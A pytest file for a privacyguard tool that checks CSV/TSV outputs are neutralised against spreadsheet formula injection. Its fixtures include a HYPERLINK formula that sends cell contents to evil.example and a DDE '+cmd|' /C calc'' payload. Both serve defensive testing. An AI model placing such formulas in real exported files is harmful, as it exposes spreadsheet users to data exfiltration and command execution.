"""CSV outputs are neutralised against formula injection (OWASP "CSV Injection"): a cell that
starts with = + - @ (or a tab or CR) gets a leading ' so that a spreadsheet shows it as text;
everything else stays byte for byte. Only CSV/TSV outputs; on in `privacyguard redact`
(--no-csv-neutralise turns it off), off by default in ingest.write (csv_neutralise=True)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from privacyguard.cli import cli
from privacyguard.ingest import read, write
from privacyguard.ingest.csv_table import neutralised_cell
from privacyguard.models import Message

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def identity(_mid: str, _field: str, text: str) -> str:
    return text


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\ufeff=x", "\ufeff'=x"),  # the BOM stays first
        ("-3", "-3"),  # plain numbers are numbers to a spreadsheet, never formulas
        ("+0.5", "+0.5"),
        ("-1e5", "-1e5"),
        ("hello =1", "hello =1"),
        ("", ""),
        ("'=already", "'=already"),
    ],
)
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(cell, expected) -> None:
    assert neutralised_cell(cell) == expected


def _csv(tmp_path: Path, lines: list[str], name: str = "chat.csv", newline: str = "\r\n") -> Path:
    src = tmp_path / name
    src.write_bytes(newline.join(lines).encode("utf-8") + newline.encode())
    return src


def test_formula_cells_get_a_quote_and_every_other_byte_stays(tmp_path: Path) -> None:
    lines = [
        "id,timestamp,author,text,note",
        '1,2024-03-01T10:00:00Z,Anna,"' + PAYLOAD.replace('"', '""') + '",-3',
        "2,2024-03-01T10:01:00Z,@anna,plain text,+cmd|' /C calc'!A0",
        '3,2024-03-01T10:02:00Z,Bob,"quoted, with comma",',
    ]
    src = _csv(tmp_path, lines)
    out = tmp_path / "out" / "chat.csv"
    report = write(src, out, identity, csv_neutralise=True)
    assert report.problems == []
    assert report.csv_neutralised == 3
    got = out.read_bytes().decode("utf-8").split("\r\n")
    assert got[0] == lines[0]
    assert got[1] == "1,2024-03-01T10:00:00Z,Anna,\"'" + PAYLOAD.replace('"', '""') + '",-3'
    assert got[2] == "2,2024-03-01T10:01:00Z,'@anna,plain text,'+cmd|' /C calc'!A0"
    assert got[3] == lines[3]
    texts = [m.text for m in read(out) if isinstance(m, Message)]
    assert texts == ["'" + PAYLOAD, "plain text", "quoted, with comma"]


def test_a_formula_the_rewrite_produces_is_neutralised_too(tmp_path: Path) -> None:
    src = _csv(tmp_path, ["id,text", "1,call me"], newline="\n")
    out = tmp_path / "out.csv"
    report = write(
        src, out, lambda _m, _f, t: "=cmd()" if t == "call me" else t, csv_neutralise=True
    )
    assert (report.csv_neutralised, out.read_text("utf-8")) == (1, "id,text\n1,'=cmd()\n")


@pytest.mark.parametrize("off", [{}, {"csv_neutralise": False}])
def test_off_and_by_default_in_ingest_write_every_cell_is_written_as_it_is(
    tmp_path: Path, off: dict[str, bool]
) -> None:
    src = _csv(tmp_path, ["id,text,note", f'1,"{PAYLOAD.replace(chr(34), 2 * chr(34))}",@x'])
    out = tmp_path / "out.csv"
    report = write(src, out, identity, **off)
    assert (report.csv_neutralised, out.read_bytes()) == (0, src.read_bytes())


def test_a_tsv_and_a_semicolon_file_are_neutralised_in_their_own_delimiter(tmp_path: Path) -> None:
    tsv = _csv(tmp_path, ["id\ttext", "1\t=1+1", "2\t-7"], name="chat.tsv", newline="\n")
    semi = _csv(tmp_path, ["id;text", "1;@x", "2;ok"], name="semi.csv", newline="\n")
    assert write(tsv, tmp_path / "o.tsv", identity, csv_neutralise=True).csv_neutralised == 1
    assert (tmp_path / "o.tsv").read_text("utf-8") == "id\ttext\n1\t'=1+1\n2\t-7\n"
    assert write(semi, tmp_path / "o.csv", identity, csv_neutralise=True).csv_neutralised == 1
    assert (tmp_path / "o.csv").read_text("utf-8") == "id;text\n1;'@x\n2;ok\n"


def test_a_formula_in_the_header_is_neutralised(tmp_path: Path) -> None:
    src = _csv(tmp_path, ["id,text,=cmd()", "1,hi,"], newline="\n")
    out = tmp_path / "o.csv"
    assert write(src, out, identity, csv_neutralise=True).csv_neutralised == 1
    assert out.read_text("utf-8") == "id,text,'=cmd()\n1,hi,\n"


def test_a_zip_of_csv_files_counts_every_file(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    _csv(folder, ["id,text", "1,=a", "2,=b"], name="a.csv", newline="\n")
    _csv(folder, ["id,text", "1,@c"], name="b.csv", newline="\n")
    report = write(folder, tmp_path / "out", identity, csv_neutralise=True)
    assert report.csv_neutralised == 3
    assert (tmp_path / "out" / "b.csv").read_text("utf-8") == "id,text\n1,'@c\n"


def test_other_formats_are_not_neutralised(tmp_path: Path) -> None:
    src = tmp_path / "chat.jsonl"
    src.write_text(json.dumps({"id": "1", "text": PAYLOAD}) + "\n", "utf-8")
    out = tmp_path / "out.jsonl"
    report = write(src, out, identity, csv_neutralise=True)
    assert (report.csv_neutralised, out.read_bytes()) == (0, src.read_bytes())


def test_redact_neutralises_its_csv_output_unless_told_not_to(tmp_path: Path) -> None:
    src = _csv(tmp_path, ["id,text", f"1,{PAYLOAD.replace(',', ';')}", "2,-2+3"], newline="\n")
    on, off = tmp_path / "on.csv", tmp_path / "off.csv"
    r1 = CliRunner().invoke(cli, ["redact", str(src), "-o", str(on), "--no-progress"])
    r2 = CliRunner().invoke(
        cli, ["redact", str(src), "-o", str(off), "--no-progress", "--no-csv-neutralise"]
    )
    assert (r1.exit_code, r2.exit_code) == (0, 0), r1.output + r2.output
    assert on.read_text("utf-8").splitlines()[1:] == [
        "1,'" + PAYLOAD.replace(",", ";"),
        "2,'-2+3",
    ]
    assert off.read_bytes() == src.read_bytes()


def test_the_library_redact_neutralises_and_the_run_report_counts_it(tmp_path: Path) -> None:
    from privacyguard import redact

    src = _csv(tmp_path, ["id,text", "1,=1+1", "2,-2+3", "3,plain"], newline="\n")
    out = tmp_path / "out.csv"
    report = redact(src, out).report
    assert out.read_text("utf-8").splitlines()[1:] == ["1,'=1+1", "2,'-2+3", "3,plain"]
    assert report.csv_neutralised == 2
    assert report.to_json()["csv_cells_neutralised"] == 2
    assert any("2 CSV cell(s)" in line for line in report.lines())
    kept = redact(src, tmp_path / "kept.csv", csv_neutralise=False).report
    assert kept.csv_neutralised == 0 and (tmp_path / "kept.csv").read_bytes() == src.read_bytes()


def test_the_redact_stream_filter_is_not_refused_for_it(tmp_path: Path) -> None:
    line = json.dumps({"id": "1", "text": PAYLOAD}) + "\n"
    for extra in ([], ["--no-csv-neutralise"]):
        result = CliRunner().invoke(cli, ["redact", "-", "-o", "-", *extra], input=line)
        assert result.exit_code == 0, result.output
        assert json.loads(result.stdout)["text"] == PAYLOAD  # JSON: nothing to neutralise
